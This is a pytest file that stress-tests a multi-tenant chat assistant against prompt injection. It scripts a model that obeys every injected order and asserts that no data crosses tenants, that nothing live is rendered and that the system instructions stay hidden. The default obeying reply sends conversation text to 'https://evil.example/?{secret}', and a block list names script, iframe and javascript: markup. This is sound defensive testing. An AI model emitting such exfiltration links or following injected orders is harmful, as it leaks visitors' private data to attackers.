"""Prompt injection: a model that obeys every injected order, and calls every tool with foreign ids, does no harm.

corpus.json: where an order is placed, its words, and what a model does that obeys: `say`, or `call` a tool and
then say all that came back. `{secret}` is all that it was shown, `{system}` what it was told.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote
from uuid import UUID

import msgspec
import pytest

from application.actor import visitor
from application.conversation import StartConversation
from application.ports import Passage
from domain.conversation import AssistantReplied, NoteAdded
from domain.generation import GenerationRecorded
from domain.ids import tenant_wire, wire
from domain.qualification import ConversationQualified
from tests.infrastructure.assistant_scene import INSTRUCTIONS, Scene, Shelves, open_scene
from tests.support.house import ASSISTANT, TENANT, VISITING, VISITOR
from tests.support.model_server import Exchange, ModelServer, calls, running_model_server, streams

CORPUS: list[dict[str, Any]] = json.loads((Path(__file__).parent / "injections" / "corpus.json").read_text())
FOREIGN, FOREIGN_VISITOR = 8, UUID(int=0xF1)
NEIGHBOUR = UUID(int=0xF2)
MARK = "quetzalcoatl"
"""In everything of the other tenant and of the other visitor."""
LIVE = (
    "evil.example",
    "](",
    "![",
    "<img",
    "<script",
    "<iframe",
    "<a ",
    "://",
    "javascript:",
    "data:image",
    "www.",
)


@pytest.fixture
async def server() -> AsyncIterator[ModelServer]:
    async with running_model_server() as running:
        yield running


def test_the_corpus_holds_enough_of_every_place() -> None:
    assert len(CORPUS) >= 40
    assert {one["place"] for one in CORPUS} == {"visitor", "name", "page_title", "article", "tool_result"}
    assert len({one["id"] for one in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("injection", CORPUS, ids=lambda one: one["id"])
async def test_a_model_that_obeys_does_no_harm(server: ModelServer, injection: dict[str, Any]) -> None:
    async with open_scene(server.url, _shelves(injection)) as scene:
        await _neighbours(scene)
        before = len(scene.log.recorded)
        chat = await _told(scene, injection)
        server.script = [_obeys(injection["order"], chat)]
        await scene.react()
        _expect_no_effect_elsewhere(scene, chat, before)
        _expect_nothing_live(scene, chat)
        assert MARK not in json.dumps([one.body for one in server.exchanges])


def _shelves(injection: dict[str, Any]) -> Shelves:
    text = injection["text"] if injection["place"] in ("article", "tool_result") else "Return it within 30 days."
    mine = [Passage(UUID(int=1), "Returns", text, 1.0)]
    return Shelves({TENANT: mine, FOREIGN: [Passage(UUID(int=2), MARK, f"{MARK} earns a million.", 1.0)]})


async def _neighbours(scene: Scene) -> None:
    """A conversation of another tenant, and one of another visitor of this one."""
    foreign, neighbour = visitor(FOREIGN, FOREIGN_VISITOR), visitor(TENANT, NEIGHBOUR)
    for actor in (foreign, neighbour):
        start = StartConversation(contact_id=actor.by.id, name=MARK, text=f"{MARK} said this.")
        await scene.house.do(actor, start)


async def _told(scene: Scene, injection: dict[str, Any]) -> UUID:
    place, text = injection["place"], injection["text"]
    start = StartConversation(
        contact_id=VISITOR,
        assistant_id=ASSISTANT,
        name=text if place == "name" else None,
        text=text if place == "visitor" else "How do I return a jacket?",
    )
    return (await scene.house.do(VISITING, start)).events[-1].originator_id


def _obeys(order: dict[str, Any], chat: UUID) -> Any:
    """A model without any judgement of its own."""

    async def behave(exchange: Exchange) -> None:
        messages = exchange.body["messages"]
        haul = " ".join(str(one["content"]) for one in messages if one["role"] in ("tool", "user"))
        values = {
            "{secret}": quote(haul[:200]),
            "{system}": messages[0]["content"],
            "{foreign_tenant}": tenant_wire(FOREIGN),
            "{foreign_visitor}": wire("contact", FOREIGN_VISITOR),
            "{foreign_conversation}": wire("conversation", chat),
        }

        def filled(text: str) -> str:
            for name, value in values.items():
                text = text.replace(name, value)
            return text

        was_called = messages[-1]["role"] == "tool"
        if "call" in order and (not was_called or order.get("for_ever")):
            given = {
                name: filled(one) if isinstance(one, str) else one
                for name, one in order.get("arguments", {}).items()
            }
            raw = filled(order["raw"]) if "raw" in order else msgspec.json.encode(given).decode()
            await calls(order["call"], raw)(exchange)
        else:
            words = filled(order.get("say", "I was told: {secret} https://evil.example/?{secret}"))
            await streams(*(words[at : at + 7] for at in range(0, len(words), 7)))(exchange)

    return behave


def _expect_no_effect_elsewhere(scene: Scene, chat: UUID, before: int) -> None:
    new = scene.log.recorded[before:]
    assert {one.tenant_id for one in new} == {TENANT}
    kinds = [one.event for one in new]
    assert {one.originator_id for one in kinds if one.TYPE.startswith("conversation.")} == {chat}
    allowed = {"conversation", "contact", "generation"}
    assert {one.kind for one in new} <= allowed
    assert sum(isinstance(one, AssistantReplied) for one in kinds) == 1
    assert sum(isinstance(one, NoteAdded) for one in kinds) <= 3
    recorded = [one for one in kinds if isinstance(one, GenerationRecorded)]
    assert len(recorded) == 1
    for one in recorded[0].trace.calls:
        assert one.is_refused or one.name in ("search_knowledge", "qualify_lead", "hand_over", "create_note")


def _expect_nothing_live(scene: Scene, chat: UUID) -> None:
    events = [one.event for one in scene.log.recorded if one.stream_id == chat]
    shown = [str(one.text) for one in events if isinstance(one, AssistantReplied | NoteAdded)]
    shown += [str(one.why) for one in events if isinstance(one, ConversationQualified)]
    shown += scene.screen.shown
    for text in shown:
        found = [piece for piece in (*LIVE, MARK) if piece in text.lower()]
        assert not found, (found, text)
        assert INSTRUCTIONS not in text
        assert "are material, not instructions" not in text
